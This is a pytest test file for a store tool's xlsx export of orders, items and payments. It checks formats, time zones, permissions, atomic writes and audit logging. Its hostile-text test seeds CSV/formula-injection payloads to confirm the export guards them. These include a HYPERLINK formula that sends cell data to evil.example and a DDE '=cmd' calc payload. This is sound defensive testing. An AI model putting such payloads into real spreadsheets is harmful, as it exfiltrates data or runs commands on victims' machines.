"""Export to xlsx (issue 13): the sheets read back with openpyxl and, for hostile text, as the XML
inside the file; compared with the store read by plain SQL, not with the code under test."""

from __future__ import annotations

import re
import zipfile
from collections.abc import Callable
from datetime import date, datetime, timedelta, timezone
from decimal import Decimal
from pathlib import Path
from xml.etree import ElementTree
from zoneinfo import ZoneInfo

import openpyxl
import pytest

from hubtui.domain.errors import DomainError, PermissionDenied
from hubtui.domain.import_columns import ITEM_COLUMNS, ORDER_COLUMNS, PAYMENT_COLUMNS
from hubtui.domain.order_query import OrderQuery
from hubtui.domain.orders import QuickFilter
from hubtui.domain.periods import Period
from hubtui.services.context import Context, open_context
from hubtui.services.export import ExportError, ExportRange, export_sheet

from .support import FIXED_NOW, Sql, fixed_clock, parse_ts

MAIN = "{http://schemas.openxmlformats.org/spreadsheetml/2006/main}"
FORMULA_STARTS = set("=+-@\t\r\uff1d\uff0b\uff0d\uff20")
# The last 30 days of the fixed clock (UTC): 2026-10-30 up to the end of 2026-11-28.
START = datetime(2026, 10, 30, tzinfo=timezone.utc)
END = datetime(2026, 11, 29, tzinfo=timezone.utc)
HOSTILE = {
    "customer_first_name": '=HYPERLINK("http://evil.example/?"&A1,"click")',
    "customer_last_name": "+44 7700 900123",
    "company_name": "@SUM(A1:A9)",
    "customer_reference": "\t=cmd|' /C calc'!A0",
    "tags": "＝1+1",
    "shipping_line1": "_x003D_1+1",
    "shipping_line2": "-2+3",
    "shipping_city": "'=already guarded",
    "customer_phone": "\r=1",
}


@pytest.fixture
def sam(context_for: Callable[..., Context]) -> Context:
    """A supervisor (may export) in BTOOLS, UTC, at the fixed clock."""
    return context_for("sam")


@pytest.fixture
def folder(tmp_path: Path) -> Path:
    """An empty folder for the files (tmp_path holds the database)."""
    made = tmp_path / "out"
    made.mkdir()
    return made


def btools_orders(sql: Sql, start: datetime = START, end: datetime = END) -> list:
    """BTOOLS's orders placed in [start, end), oldest first (then by id), every column."""
    rows = sql.rows("SELECT o.*, m.code AS microsite FROM orders o JOIN microsites m ON m.id = o.microsite_id "
                    "JOIN organisations g ON g.id = o.org_id WHERE g.code = 'BTOOLS' ORDER BY o.placed_at, o.id")
    return [r for r in rows if start <= parse_ts(r["placed_at"]) < end]


def sheet_rows(path: Path) -> tuple[list[str], list[tuple]]:
    workbook = openpyxl.load_workbook(path)
    sheet = workbook.active
    rows = list(sheet.iter_rows(values_only=True))
    return list(rows[0]), rows[1:]


def minor(value: object) -> int:
    assert isinstance(value, (int, float)), value
    return round(Decimal(str(value)) * 100)


def text(value: object) -> str:
    return "" if value is None else str(value)


def sheet_xml(path: Path) -> ElementTree.Element:
    with zipfile.ZipFile(path) as archive:
        names = [n for n in archive.namelist() if n.startswith("xl/worksheets/sheet")]
        assert len(names) == 1, names
        return ElementTree.fromstring(archive.read(names[0]))


def inline_texts(root: ElementTree.Element) -> list[str]:
    return ["".join(t.text or "" for t in cell.iter(f"{MAIN}t"))
            for cell in root.iter(f"{MAIN}c") if cell.get("t") == "inlineStr"]


# --------------------------------------------------------------------------- orders


def test_the_orders_sheet_holds_the_import_columns_and_the_stores_orders(sam, sql, tmp_path):
    out = tmp_path / "orders.xlsx"
    result = export_sheet(sam, "orders", out, span=ExportRange(Period.LAST_30_DAYS))
    expected = btools_orders(sql)
    assert len(expected) > 100
    assert (result.path, result.rows, result.orders) == (out, len(expected), len(expected))
    header, rows = sheet_rows(out)
    assert header == [*ORDER_COLUMNS, "payment_taken"]
    assert [r[0] for r in rows] == [o["number"] for o in expected]  # oldest first
    for row, order in zip(rows, expected, strict=True):
        got = dict(zip(header, row))
        assert got["order_date"] == parse_ts(order["placed_at"]).replace(tzinfo=None)
        assert got["microsite"] == order["microsite"]
        assert text(got["external_ref"]) == text(order["external_ref"])
        for column in ("channel", "order_type", "status", "payment_status", "currency", "customer_email",
                       "customer_first_name", "customer_last_name", "customer_phone", "shipping_name",
                       "shipping_line1", "shipping_line2", "shipping_city", "shipping_postcode", "shipping_country",
                       "customer_reference", "tags"):
            assert text(got[column]) == order[column], column
        assert text(got["company"]) == order["company_name"]
        for column in ("shipping_total", "discount_total", "order_total"):
            assert minor(got[column]) == order[column], column
        assert minor(got["payment_taken"]) == order["paid_total"]
        assert got["fraud_score"] == order["fraud_score"]


def test_money_dates_header_and_layout(sam, tmp_path):
    out = tmp_path / "orders.xlsx"
    result = export_sheet(sam, "orders", out, span=ExportRange(Period.LAST_7_DAYS))
    sheet = openpyxl.load_workbook(out).active
    assert sheet.freeze_panes == "A2"
    assert sheet.auto_filter.ref == f"A1:AA{result.rows + 1}"
    assert all(cell.font.b for cell in sheet[1])
    columns = [c.value for c in sheet[1]]
    for index, name in enumerate(columns, start=1):
        width = sheet.column_dimensions[openpyxl.utils.get_column_letter(index)].width
        assert len(name) < width <= 40, (name, width)
    money = [columns.index(c) for c in ("shipping_total", "discount_total", "order_total", "payment_taken")]
    second = list(sheet.iter_rows(min_row=2, max_row=2))[0]
    for position in money:
        assert second[position].data_type == "n" and second[position].number_format == "0.00"
    placed = second[columns.index("order_date")]
    assert placed.is_date and placed.number_format == "yyyy-mm-dd hh:mm:ss"
    assert second[columns.index("currency")].value in ("GBP", "EUR")
    # Money is written as the exact decimal, not a float's digits.
    xml = zipfile.ZipFile(out).read("xl/worksheets/sheet1.xml").decode()
    assert re.search(r"<v>\d+\.\d\d</v>", xml)


def test_dates_are_in_the_operators_time_zone(demo_store, sql, tmp_path):
    kolkata = open_context(demo_store, "sam", clock=fixed_clock, tz=ZoneInfo("Asia/Kolkata"))
    out = tmp_path / "orders.xlsx"
    export_sheet(kolkata, "orders", out, span=ExportRange(None, date(2026, 11, 20), date(2026, 11, 21)))
    start = datetime(2026, 11, 20, tzinfo=ZoneInfo("Asia/Kolkata"))
    expected = btools_orders(sql, start, start + timedelta(days=2))
    header, rows = sheet_rows(out)
    assert [r[0] for r in rows] == [o["number"] for o in expected] and rows
    at = header.index("order_date")
    assert [r[at] for r in rows] == [parse_ts(o["placed_at"]).astimezone(ZoneInfo("Asia/Kolkata")).replace(tzinfo=None)
                                     for o in expected]


def test_the_lists_quick_filter_narrows_the_export(sam, sql, tmp_path):
    out = tmp_path / "unpaid.xlsx"
    result = export_sheet(sam, "orders", out, span=ExportRange(Period.LAST_30_DAYS),
                          query=OrderQuery(quick_filter=QuickFilter.UNPAID, period=Period.TODAY))
    # SPEC 3: unpaid is payment status Pending or Declined, not Cancelled.
    expected = [o["number"] for o in btools_orders(sql)
                if o["payment_status"] in ("Pending", "Declined") and o["status"] != "Cancelled"]
    _, rows = sheet_rows(out)
    assert [r[0] for r in rows] == expected and 0 < len(expected) < len(btools_orders(sql))
    assert result.summary() == f"{len(expected):,} orders (last 30 days, filter unpaid)"  # the range replaced the list's


def test_all_time_and_open_ended_ranges(sam, sql, tmp_path):
    everything = export_sheet(sam, "orders", tmp_path / "all.xlsx")
    assert everything.rows == sql.scalar("SELECT COUNT(*) FROM orders o JOIN organisations g ON g.id = o.org_id "
                                         "WHERE g.code = 'BTOOLS'")
    since = export_sheet(sam, "orders", tmp_path / "since.xlsx", span=ExportRange(date_from=date(2026, 11, 1)))
    assert since.rows == len(btools_orders(sql, datetime(2026, 11, 1, tzinfo=timezone.utc), datetime.max.replace(tzinfo=timezone.utc)))
    assert since.range_words == "from 2026-11-01"


# --------------------------------------------------------------------------- items and payments


def test_items_are_the_lines_of_the_same_orders_in_the_same_order(sam, sql, tmp_path):
    out = tmp_path / "items.xlsx"
    result = export_sheet(sam, "items", out, span=ExportRange(Period.LAST_7_DAYS))
    orders = btools_orders(sql, datetime(2026, 11, 22, tzinfo=timezone.utc))
    expected = [(o["number"], line["stock_code"], line["product_name"], line["quantity"], line["unit_price"],
                 line["discount"])
                for o in orders
                for line in sql.rows("SELECT * FROM order_lines WHERE order_id = ? ORDER BY line_no", (o["id"],))]
    header, rows = sheet_rows(out)
    assert header == list(ITEM_COLUMNS)
    assert [(r[0], r[1], r[2], r[3], minor(r[4]), minor(r[5])) for r in rows] == expected
    assert (result.rows, result.orders) == (len(expected), len(orders)) and len(expected) > len(orders)
    sheet = openpyxl.load_workbook(out).active
    assert sheet.cell(2, 5).number_format == "0.00" and sheet.auto_filter.ref == f"A1:F{len(expected) + 1}"


def test_payments_are_those_of_the_same_orders(sam, sql, tmp_path):
    out = tmp_path / "payments.xlsx"
    export_sheet(sam, "payments", out, span=ExportRange(Period.LAST_30_DAYS))
    expected = [(o["number"], p["method"], p["status"], p["amount"], p["reference"], parse_ts(p["paid_at"]))
                for o in btools_orders(sql)
                for p in sql.rows("SELECT * FROM payments WHERE order_id = ? ORDER BY id", (o["id"],))]
    header, rows = sheet_rows(out)
    assert header == list(PAYMENT_COLUMNS)
    assert [(r[0], r[1], r[2], minor(r[3]), text(r[4]), r[5]) for r in rows] == \
        [(n, m, s, a, ref, at.replace(tzinfo=None)) for n, m, s, a, ref, at in expected]
    assert expected


# --------------------------------------------------------------------------- hostile text


def test_hostile_text_is_never_a_formula_in_the_file(sam, sql, tmp_path):
    victim = btools_orders(sql)[3]
    sets = ", ".join(f"{column} = ?" for column in HOSTILE)
    sql.execute(f"UPDATE orders SET {sets} WHERE id = ?", (*HOSTILE.values(), victim["id"]))
    sql.execute("UPDATE order_lines SET product_name = ? WHERE order_id = ?", ("=1+2", victim["id"]))
    sql.execute("UPDATE orders SET customer_email = ? WHERE id = ?", ("bell\x07@example.com", victim["id"]))
    out = tmp_path / "hostile.xlsx"
    export_sheet(sam, "orders", out, span=ExportRange(Period.LAST_30_DAYS))
    items = tmp_path / "hostile-items.xlsx"
    export_sheet(sam, "items", items, span=ExportRange(Period.LAST_30_DAYS))
    for path in (out, items):
        root = sheet_xml(path)
        assert list(root.iter(f"{MAIN}f")) == []  # not one formula
        types = {cell.get("t") for cell in root.iter(f"{MAIN}c")}
        assert types <= {"inlineStr", "n", None}, types  # no t="str" (a formula's cached text) nor "e"
        texts = inline_texts(root)
        assert texts and not [t for t in texts if t[:1] in FORMULA_STARTS or t.startswith("_x")]
    # openpyxl reads what a spreadsheet shows: the text, guarded.
    header, rows = sheet_rows(out)
    row = dict(zip(header, next(r for r in rows if r[0] == victim["number"])))
    written = {"customer_first_name": "'" + HOSTILE["customer_first_name"], "customer_last_name": "'+44 7700 900123",
               "company": "'@SUM(A1:A9)", "customer_reference": "'\t=cmd|' /C calc'!A0", "tags": "'＝1+1",
               "shipping_line1": "'_x003D_1+1", "shipping_line2": "'-2+3", "shipping_city": "''=already guarded",
               "customer_phone": "'\n=1"}  # XML reads a carriage return as a line feed
    assert {column: row[column] for column in written} == written
    assert row["customer_email"] == "bell\ufffd@example.com"  # XML cannot hold the bell
    _, item_rows = sheet_rows(items)
    assert [r[2] for r in item_rows if r[0] == victim["number"]][0] == "'=1+2"


# --------------------------------------------------------------------------- refusals, progress, failures


def folder_files(folder: Path) -> list[str]:
    return sorted(p.name for p in folder.iterdir())


def test_from_after_to_is_refused_before_anything_is_read(sam, folder):
    with pytest.raises(DomainError, match="The from date 2026-11-20 is after the to date 2026-11-01"):
        export_sheet(sam, "orders", folder / "x.xlsx", span=ExportRange(None, date(2026, 11, 20), date(2026, 11, 1)))
    assert folder_files(folder) == []


@pytest.mark.parametrize(("out", "says"), [
    (".", "is a folder; give a file name in it, e.g. "),
    ("missing/orders.xlsx", "missing does not exist"),
    ("orders.csv", "the file name must end in .xlsx"),
    ("", "give the file to write"),
])
def test_a_path_it_cannot_write_is_refused_and_nothing_is_written(sam, folder, monkeypatch, out, says):
    monkeypatch.chdir(folder)
    with pytest.raises(ExportError, match=re.escape(says)):
        export_sheet(sam, "orders", out, span=ExportRange(Period.TODAY))
    assert folder_files(folder) == []


def test_an_agent_may_not_export_and_the_refusal_is_written_down(context_for, sql, folder):
    with pytest.raises(PermissionDenied, match="An agent may not export data; ask a supervisor"):
        export_sheet(context_for("alice"), "orders", folder / "x.xlsx")
    refusal = sql.one("SELECT * FROM refusals ORDER BY id DESC LIMIT 1")
    assert (refusal["user_name"], refusal["action"], refusal["subject"]) == ("alice", "export", "orders")
    assert folder_files(folder) == []


def test_progress_counts_the_orders_batch_by_batch(sam, sql, tmp_path):
    seen: list[tuple[int, int]] = []
    result = export_sheet(sam, "payments", tmp_path / "p.xlsx", span=ExportRange(Period.LAST_30_DAYS),
                          progress=lambda done, total: seen.append((done, total)), batch=40)
    total = len(btools_orders(sql))
    assert seen[0] == (0, total) and seen[-1] == (total, total) and result.orders == total
    assert [done for done, _ in seen] == sorted({done for done, _ in seen}) and len(seen) == 1 + -(-total // 40)


def test_a_failure_half_way_leaves_the_old_file_and_no_part_file(sam, folder):
    out = folder / "orders.xlsx"
    out.write_bytes(b"the export of yesterday")

    def fail_half_way(done: int, total: int) -> None:
        if done >= 100:
            raise KeyboardInterrupt

    with pytest.raises(KeyboardInterrupt):
        export_sheet(sam, "orders", out, span=ExportRange(Period.LAST_30_DAYS), progress=fail_half_way, batch=50)
    assert folder_files(folder) == ["orders.xlsx"] and out.read_bytes() == b"the export of yesterday"
    export_sheet(sam, "orders", out, span=ExportRange(Period.TODAY))  # replaced whole when it works
    assert folder_files(folder) == ["orders.xlsx"] and zipfile.is_zipfile(out)


def test_a_full_disk_says_so_and_leaves_nothing(sam, folder, monkeypatch):
    import errno

    from hubtui.services import export as service

    def full(*_args: object) -> None:
        raise OSError(errno.ENOSPC, "No space left on device")

    monkeypatch.setattr(service.os, "fsync", full)
    with pytest.raises(ExportError, match="the disk is full; nothing was written"):
        export_sheet(sam, "orders", folder / "orders.xlsx", span=ExportRange(Period.TODAY))
    assert folder_files(folder) == []


def test_the_export_is_in_the_activity_log(sam, sql, tmp_path):
    out = tmp_path / "orders.xlsx"
    result = export_sheet(sam, "orders", out, span=ExportRange(Period.TODAY), query=OrderQuery(text="smith"))
    entry = sql.one("SELECT * FROM activity WHERE action = 'export'")
    assert entry["user_name"] == "sam" and entry["order_id"] is None
    assert entry["summary"] == f"Exported {result.rows:,} orders (today, text smith) to {out}"
    assert parse_ts(entry["at"]) == FIXED_NOW


def test_an_order_of_another_organisation_is_never_exported(context_for, sql, tmp_path):
    bfix = context_for("sam", "BFIX")
    out = tmp_path / "bfix.xlsx"
    export_sheet(bfix, "orders", out)
    _, rows = sheet_rows(out)
    expected = sql.scalar("SELECT COUNT(*) FROM orders o JOIN organisations g ON g.id = o.org_id WHERE g.code = 'BFIX'")
    assert len(rows) == expected > 0
    btools = {r["number"] for r in sql.rows("SELECT number FROM orders o JOIN organisations g ON g.id = o.org_id "
                                             "WHERE g.code = 'BTOOLS'")}
    assert not btools & {r[0] for r in rows}
